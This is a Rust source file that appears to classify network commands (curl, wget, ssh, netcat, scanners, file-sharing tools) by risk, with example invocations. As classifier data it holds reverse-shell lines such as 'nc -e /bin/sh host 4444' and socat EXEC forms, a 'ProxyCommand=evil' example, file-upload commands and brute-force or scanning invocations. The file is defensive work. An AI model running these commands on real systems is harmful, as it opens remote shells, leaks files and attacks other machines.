//! What speaks to other machines: fetching, sending, looking.

use super::On::{Elsewhere, Last, Value};
use super::usual::*;
use super::{Program, Rest, Runs, Use, known, when};
use crate::effect::EffectKind::{LeavesMachine, Overwrites, Writes};

pub(super) static PROGRAMS: &[Program] = &[
    known(&["curl"], Rest::Unknown, CURL).valued(CURL_FLAGS),
    known(&["wget", "wget2"], Rest::Unknown, WGET).valued(&["-O", "--output-document", "-o", "--output-file", "-a", "-P", "--directory-prefix", "-i", "--input-file", "-U", "--user-agent", "-t", "--tries", "-T", "--timeout", "-Q", "-A", "-R", "-D", "-l", "--level", "-e", "--execute", "-w", "--wait", "-X", "-I", "--header", "--method", "--post-data", "--body-data"]),
    known(&["http", "https", "xh", "xhs", "httpie"], Rest::Unknown, HTTPIE).valued(&["-a", "--auth", "-A", "--auth-type", "-o", "--output", "-s", "--style", "--session", "--timeout", "--proxy", "--verify", "-p", "--print"]),
    known(&["aria2c", "axel", "lftpget", "youtube-dl", "yt-dlp", "gallery-dl", "you-get", "httrack", "annie", "lux", "streamlink", "spotdl", "gdown", "megadl"], Rest::Unknown, &[
        help_h(&["yt-dlp --version"]),
        when("", FOREIGN).flags(&["--exec|--on-download-complete"]).why("the flag names a program to run").examples(&["yt-dlp --exec rm https://example.com/v"]),
        when("", FETCH).flags(&["-F|--list-formats|-j|--dump-json|-s|--simulate|-g|--get-url|-J|-S|--show-files"]).examples(&["yt-dlp -F https://example.com/v", "youtube-dl -j https://example.com/v"]),
        when("", MACHINE).flags(&["-U|--update"]).why(FOR_ALL).examples(&["yt-dlp -U"]),
        when("", &[(LeavesMachine, Elsewhere), (Writes, Value("-o|--output|-d|--dir|-O|-P"))]).flags(&["-o|--output|-d|--dir|-O|-P"]).examples(&["aria2c -d out https://example.com/a", "yt-dlp -o v.mp4 https://example.com/v"]),
        when("", INSTALL).examples(&["aria2c https://example.com/a.iso", "yt-dlp https://example.com/v"]),
    ]).valued(&["-o", "--output", "-d", "--dir", "-O", "-P", "-f", "--format", "-x", "-s", "-n"]),
    known(&["ssh", "autossh", "mosh", "et", "dbclient", "slogin", "plink"], Rest::Unknown, SSH).valued(&["-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q", "-R", "-S", "-W", "-w", "-B", "--ssh", "--port"]),
    known(&["sshpass"], Rest::Unknown, &[
        when("", READ).flags(&["-V|-h"]).examples(&["sshpass -V"]),
        when("", FETCH).runs(Runs::Command(0)).examples(&["sshpass -p x ssh host ls"]),
    ]).valued(&["-p", "-f", "-d", "-P"]),
    known(&["scp", "pscp"], Rest::Unknown, &[
        when("*:*", &[(LeavesMachine, Elsewhere), (Overwrites, Last)]).without(&["-3"]).runs(Runs::Special).examples(&["scp host:/a/b .", "scp -r user@host:dir out"]),
        when("", SEND).why("files are copied to another machine").runs(Runs::Special).examples(&["scp a.txt host:/tmp", "scp -r dist user@host:/var/www"]),
    ]).valued(&["-c", "-F", "-i", "-J", "-l", "-o", "-P", "-S", "-X", "-D"]),
    known(&["sftp", "ftp", "lftp", "ncftp", "tftp", "ftps", "psftp", "cadaver", "smbclient", "ncftpput", "ncftpget", "curlftpfs"], Rest::Unknown, &[
        help(&["lftp --version"]),
        when("*:*", INSTALL).without(&["-b|-c|-e"]).flags(&["-a|-r|-p"]).examples(&["sftp -r host:dir"]),
        when("", SEND).why("files can be changed on the other machine").examples(&["sftp host", "ftp example.com", "lftp -e 'mirror -R a' host", "sftp -b batch host"]),
    ]).valued(&["-b", "-i", "-o", "-P", "-F", "-u", "-e", "-c", "-p"]),
    known(&["nc", "ncat", "netcat", "socat", "telnet", "nc.openbsd", "nc.traditional", "socket", "pwncat", "chisel", "udptunnel", "sbd", "cryptcat", "powercat"], Rest::Unknown, NETCAT).valued(&["-i", "-I", "-O", "-p", "-P", "-q", "-s", "-T", "-V", "-w", "-X", "-x"]),
    known(&["ping", "ping6", "fping", "hping", "traceroute", "traceroute6", "tracepath", "mtr", "dig", "nslookup", "host", "whois", "drill", "kdig", "dog", "doggo", "q", "delv", "arping", "rdap", "geoiplookup", "ipcalc", "sipcalc", "mdig", "avahi-browse", "nbtscan", "lft", "tcptraceroute", "dnstracer", "httpstat", "httping", "speedtest", "speedtest-cli", "fast", "dnsperf", "gping", "trip"], Rest::Unknown, &[
        when("", MACHINE).flags(&["-f"]).without(&["-c|-4|-x"]).operands(1).why("it floods a machine").examples(&["ping -f example.com"]),
        when("", FETCH).examples(&["ping -c 3 example.com", "dig +short example.com", "nslookup example.com", "mtr -r example.com", "whois example.com"]),
    ]).word_flags(),
    known(&["nmap", "masscan", "zmap", "rustscan", "nikto", "sqlmap", "hydra", "medusa", "gobuster", "dirb", "ffuf", "wfuzz", "feroxbuster", "wpscan", "msfconsole", "msfvenom", "john", "hashcat", "aircrack-ng", "ettercap", "responder", "hping3", "slowloris", "nuclei", "amass", "subfinder", "dirsearch", "crackmapexec", "bettercap", "arpspoof", "unicornscan", "theharvester", "burpsuite", "beef-xss", "setoolkit", "netdiscover", "arp-scan", "dnsrecon", "fierce", "enum4linux"], Rest::Unknown, &[
        help(&["nmap --version"]),
        when("", FETCH).flags(&["-V"]).without(&["-s"]).examples(&["nmap -V"]),
        when("localhost|127.0.0.1", FETCH).without(&["--script"]).examples(&["nmap localhost"]),
        when("", LIVE).why("it probes or attacks other machines").examples(&["nmap -sV 10.0.0.0/24", "sqlmap -u https://example.com", "hydra -l a -P b ssh://host"]),
    ]),
    known(&["arp"], Rest::Unknown, &[
        when("", MACHINE).flags(&["-d|-s|-f"]).why("the table of the network is changed").examples(&["arp -d host"]),
        when("", READ).examples(&["arp -a", "arp -n"]),
    ]),
    known(&["tcpdump", "tshark", "wireshark", "dumpcap", "ngrep", "termshark", "tcpflow", "ssldump", "iftop", "nethogs", "capinfos", "editcap", "mergecap"], Rest::Unknown, &[
        help(&["tshark --version"]),
        when("", READ).flags(&["-r|-D|--list-interfaces"]).without(&["-w"]).examples(&["tcpdump -r a.pcap", "tshark -D"]),
        when("", &[(Overwrites, Value("-w"))]).flags(&["-r", "-w"]).examples(&["tcpdump -r a.pcap -w b.pcap"]),
        when("", MACHINE).why("it listens to what others send over the network").examples(&["tcpdump -i eth0", "tcpdump -w a.pcap", "tshark -i any"]),
    ]).valued(&["-r", "-w", "-i", "-c", "-s", "-Y", "-f", "-T", "-e"]),
    known(&["w3m", "lynx", "links", "elinks", "browsh", "xdg-open", "sensible-browser", "html2text", "urlview", "newsboat"], Rest::Unknown, &[
        help(&["lynx --version"]),
        when("", SEND).flags(&["-post_data|-post"]).why("it sends data to another machine").examples(&["lynx -post_data https://example.com"]),
        when("", FETCH).examples(&["lynx -dump https://example.com", "w3m https://example.com"]),
    ]).word_flags(),
    known(&["ab", "wrk", "wrk2", "hey", "k6", "vegeta", "siege", "bombardier", "locust", "artillery", "autocannon", "oha", "jmeter", "gatling", "httperf", "h2load", "tsung", "ddosify", "plow", "cassowary", "iperf", "iperf3", "nuttcp", "netperf", "qperf"], Rest::Unknown, &[
        help(&["k6 --version"]),
        when("version|help|inspect|archive|report|plot|encode|new|doctor|scenario", READ).examples(&["k6 version", "vegeta report a.bin"]),
        when("", READ).flags(&["-V|-v"]).without(&["-n|-c|-d|-u|-r|--duration|--vus"]).examples(&["ab -V"]),
        when("login|cloud", RIGHTS).why(KEYS).examples(&["k6 login cloud"]),
        when("http://localhost*|http://127.0.0.1*|localhost*|127.0.0.1*|https://localhost*", FETCH).examples(&["hey http://localhost:8080/", "ab -n 100 -c 5 http://127.0.0.1:3000/"]),
        when("", LIVE).why("a machine is put under load").instead("the same against localhost").examples(&["ab -n 1000 https://example.com/", "wrk -t2 -d30s https://example.com", "k6 run a.js", "iperf3 -c host"]),
    ]).valued(&["-n", "-c", "-t", "-d", "-z", "-q", "-m", "-H", "-D", "-T", "-p", "-i", "-r", "-s", "-u"]),
    known(&["grpcurl", "grpcui", "evans", "ghz", "websocat", "wscat", "mqtt", "mosquitto_sub", "mosquitto_pub", "amqp-publish", "hurl", "httpx"], Rest::Unknown, &[
        help(&["grpcurl --version"]),
        when("", FETCH).flags(&["-version|-V|-help"]).examples(&["grpcurl -version"]),
        when("list|describe", FETCH).examples(&["grpcurl describe"]),
        when("* list|describe", FETCH).examples(&["grpcurl -plaintext localhost:50051 list", "grpcurl host:443 describe a.B"]),
        when("localhost*|127.0.0.1*|ws://localhost*|ws://127.0.0.1*", FETCH).examples(&["websocat ws://localhost:8080", "grpcurl -plaintext localhost:50051 a.B/Get"]),
        when("", SEND).why("it sends data to another machine").examples(&["grpcurl -d '{}' host:443 a.B/Delete", "websocat wss://example.com", "mosquitto_pub -t a -m b"]),
    ]).valued(&["-d", "-H", "-proto", "-import-path", "-c", "--connect", "-t", "-m", "-h"]).word_flags(),
    known(&["croc", "wormhole", "magic-wormhole", "transfer", "transfer.sh", "ffsend", "send", "onionshare-cli", "filebin", "pastebinit", "termbin", "sprunge", "ix", "0x0", "haste", "gpaste", "rustypaste", "piping", "portal", "zget", "bashupload", "qrcp", "woof", "dufs", "pcp"], Rest::Unknown, &[
        help(&["croc --version"]),
        when("receive|recv|download|get", INSTALL).examples(&["wormhole receive 7-a-b", "ffsend download x"]),
        when("", SEND).why("what is sent can be read by others").examples(&["croc send a.txt", "wormhole send a.txt", "pastebinit a.log", "transfer a.txt"]),
    ]),
];

const OUT: &str = "it sends data to another machine";
const WRITES: &str = "the request changes something on the other machine";

const CURL_FLAGS: &[&str] = &[
    "-o", "--output", "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "-H", "--header", "-u", "--user", "-A",
    "--user-agent", "-b", "--cookie", "-c", "--cookie-jar", "-e", "--referer", "-m", "--max-time", "-w", "--write-out", "-x", "--proxy", "-F", "--form",
    "--form-string", "-T", "--upload-file", "-K", "--config", "-E", "--cert", "-C", "--continue-at", "-D", "--dump-header", "-P", "-Q", "--quote", "-r",
    "--range", "-t", "-U", "-y", "-Y", "-z", "--time-cond", "--cacert", "--capath", "--key", "--connect-timeout", "--retry", "--retry-delay", "--retry-max-time",
    "--resolve", "--connect-to", "--interface", "--limit-rate", "--unix-socket", "-X", "--request", "--output-dir", "--proto", "--noproxy", "--url", "--max-redirs", "--stderr", "--trace", "--trace-ascii",
];

const CURL: &[Use] = &[
    when("", READ).flags(&["--help|-h|--version|-V|-M|--manual"]).without(&["-d|-F|-T|-o|--data|--form|-X"]).examples(&["curl --version", "curl -V"]),
    when("", UNCLEAR).flags(&["-K|--config"]).why("what it does stands in a file").examples(&["curl -K a.conf"]),
    when("", SEND).flags(&["-T|--upload-file|-F|--form|--form-string"]).runs(Runs::Special).why(OUT).examples(&["curl -T a.txt https://example.com/", "curl -F file=@a.txt https://example.com", "curl --upload-file a https://transfer.sh/a"]),
    when("", LIVE).flags(&["-Q|--quote"]).why(WRITES).examples(&["curl -Q 'DELE a' ftp://example.com"]),
    when("", LOSE).flags(&["-X|--request|-XDELETE|-sXDELETE", "DELETE|delete|-XDELETE|-sXDELETE"]).runs(Runs::Special).why("what is deleted over the interface is gone").examples(&["curl -X DELETE https://example.com/a/1", "curl -XDELETE http://localhost:9200/idx"]),
    when("", FETCH).flags(&["-X|--request|-XGET|-XHEAD|-XOPTIONS|-sXGET", "GET|get|HEAD|OPTIONS|-XGET|-XHEAD|-XOPTIONS|-sXGET"]).without(&["-o|--output|-O|--remote-name"]).runs(Runs::Special).examples(&["curl -X GET https://example.com", "curl -XGET http://localhost:9200/_search -d '{}'", "curl -s -X HEAD https://example.com"]),
    when("", FETCH).flags(&["-G|--get"]).without(&["-o|--output|-O|--remote-name|-X|--request"]).runs(Runs::Special).examples(&["curl -G -d q=a https://example.com", "curl --get --data-urlencode 'q=a b' https://example.com"]),
    when("", SEND).flags(&["-X|--request", "POST|post|PUT|put|PATCH|patch|MKCOL|COPY|MOVE|PROPPATCH|LOCK|UNLOCK|PURGE|BAN"]).runs(Runs::Special).why(WRITES).examples(&["curl -X POST https://example.com", "curl --request PUT -d '{}' https://example.com", "curl -s -X PATCH https://example.com"]),
    when("", SEND).flags(&["-d|--data|--data-raw|--data-binary|--data-urlencode|--data-ascii|--json"]).without(&["-G|--get|-XGET"]).runs(Runs::Special).why(OUT).examples(&["curl -d a=b https://example.com", "curl --data @a.json https://example.com", "curl --json '{}' https://example.com"]),
    when("", SEND).flags(&["-X|--request"]).without(&["GET|HEAD|OPTIONS|-XGET|-XHEAD|-XOPTIONS|-G|--get"]).runs(Runs::Special).why(WRITES).examples(&["curl -XPOST https://example.com", "curl -sXPUT https://example.com"]),
    when("", &[(LeavesMachine, Elsewhere), (Overwrites, Value("-o|--output"))]).flags(&["-o|--output"]).runs(Runs::Special).examples(&["curl -o a.zip https://example.com/a.zip", "curl -fsSL https://example.com -o out.html"]),
    when("", INSTALL).flags(&["-O|--remote-name|-J|--remote-name-all|-c|--cookie-jar|-D|--dump-header"]).runs(Runs::Special).examples(&["curl -O https://example.com/a.zip", "curl -LO https://example.com/a.zip"]),
    when("", FETCH).runs(Runs::Special).examples(&["curl https://example.com", "curl -fsSL https://example.com", "curl -I https://example.com", "curl -H 'A: b' https://example.com"]),
];

const WGET: &[Use] = &[
    when("", READ).flags(&["--help|--version|-V|-h"]).examples(&["wget --version"]),
    when("", SEND).flags(&["--post-data|--post-file|--body-data|--body-file"]).why(OUT).examples(&["wget --post-data a=b https://example.com", "wget --post-file=a https://example.com"]),
    when("", FETCH).flags(&["--method", "GET|HEAD"]).examples(&["wget --method GET https://example.com"]),
    when("", LIVE).flags(&["--method"]).why(WRITES).examples(&["wget --method=DELETE https://example.com"]),
    when("", FOREIGN).flags(&["--use-askpass|-e|--execute"]).without(&["robots|robots=off"]).why("the flag names a program or a setting to run with").examples(&["wget --use-askpass=./x https://example.com"]),
    when("", FETCH).flags(&["--spider"]).examples(&["wget --spider https://example.com"]),
    when("", FETCH).flags(&["-O|--output-document", "-"]).examples(&["wget -q -O - https://example.com"]),
    when("", FETCH).flags(&["-O-|-qO-"]).examples(&["wget -qO- https://example.com", "wget -O- https://example.com"]),
    when("", &[(LeavesMachine, Elsewhere), (Overwrites, Value("-O|--output-document"))]).flags(&["-O|--output-document"]).examples(&["wget -O a.zip https://example.com/a.zip"]),
    when("", &[(LeavesMachine, Elsewhere), (Writes, Value("-P|--directory-prefix"))]).flags(&["-P|--directory-prefix"]).examples(&["wget -P out https://example.com/a.zip"]),
    when("", INSTALL).examples(&["wget https://example.com/a.zip", "wget -r -np https://example.com/", "wget -c https://example.com/a.iso"]),
];

const HTTPIE: &[Use] = &[
    when("", READ).flags(&["--help|--version|--offline"]).examples(&["http --version", "http --offline POST example.com a=b"]),
    when("DELETE|delete", LOSE).why("what is deleted over the interface is gone").examples(&["http DELETE example.com/a/1"]),
    when("POST|PUT|PATCH|post|put|patch", SEND).runs(Runs::Special).why(WRITES).examples(&["http POST example.com a=b", "xh put example.com a=b"]),
    when("GET|HEAD|OPTIONS|get|head|options", FETCH).examples(&["http GET example.com", "xh get example.com q==a"]),
    when("", SEND).flags(&["-f|--form|--multipart|--raw"]).why(OUT).examples(&["http --form example.com a=b"]),
    when("* *==*|*:*", FETCH).examples(&["http example.com q==a", "http example.com Accept:text/plain"]),
    when("* *=*|*@*", SEND).why(OUT).examples(&["http example.com a=b", "http example.com f@a.txt"]),
    when("", &[(LeavesMachine, Elsewhere), (Overwrites, Value("-o|--output"))]).flags(&["-o|--output"]).examples(&["http -o a.json example.com"]),
    when("", INSTALL).flags(&["-d|--download"]).examples(&["http --download example.com/a.zip"]),
    when("", FETCH).runs(Runs::Special).examples(&["http example.com", "https example.com/a", "xh :8000/a"]),
];

const SSH: &[Use] = &[
    when("", READ).flags(&["-V|--version|--help|-Q|-G"]).examples(&["ssh -V", "ssh -Q cipher", "ssh -G host"]),
    when("", UNCLEAR).flags(&["ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|-oProxyCommand|-oLocalCommand"]).why("the flag names a program to run").examples(&["ssh -o ProxyCommand=evil host", "ssh -oProxyCommand=evil host"]),
    when("", RIGHTS).flags(&["-R|-D|-w"]).why("it opens a way into this machine or through it").examples(&["ssh -R 8080:localhost:80 host", "ssh -D 1080 host"]),
    when("", MACHINE).flags(&["-L|-N|-f|-W|-O"]).why("it opens a way to another network that stays open").examples(&["ssh -L 5432:db:5432 host", "ssh -N -f host"]),
    when("*", FETCH).operands(1).runs(Runs::Remote(1)).examples(&["ssh host ls", "ssh -i key user@host 'df -h'", "ssh -t host -- uptime"]),
    when("", UNCLEAR).why("it opens a shell on another machine").instead("ssh HOST COMMAND, with a command that only reads").examples(&["ssh host", "ssh user@host -p 22"]),
];

const NETCAT: &[Use] = &[
    help(&["ncat --version"]),
    when("", FOREIGN).flags(&["-e|-c|--exec|--sh-exec|--lua-exec"]).why("whoever is at the other end runs commands here").examples(&["nc -e /bin/sh host 4444", "ncat --sh-exec bash host 1"]),
    when("EXEC*|SYSTEM*|exec*|system*", FOREIGN).why("whoever is at the other end runs commands here").examples(&["socat EXEC:/bin/sh TCP:host:1"]),
    when("* EXEC*|SYSTEM*|exec*|system*", FOREIGN).why("whoever is at the other end runs commands here").examples(&["socat TCP-LISTEN:1 EXEC:/bin/sh"]),
    when("", FETCH).flags(&["-z"]).examples(&["nc -z host 80", "nc -zv localhost 5432"]),
    when("", RIGHTS).flags(&["-l|-L|--listen|-k"]).why("it lets others connect to this machine").examples(&["nc -l 4444", "nc -lvnp 4444"]),
    when("client|server", RIGHTS).why("it lets others connect to this machine").examples(&["chisel server"]),
    when("localhost|127.0.0.1", FETCH).examples(&["nc localhost 80", "telnet localhost 25"]),
    when("", SEND).why(OUT).examples(&["nc host 4444", "telnet example.com 25", "socat - TCP:host:80"]),
];
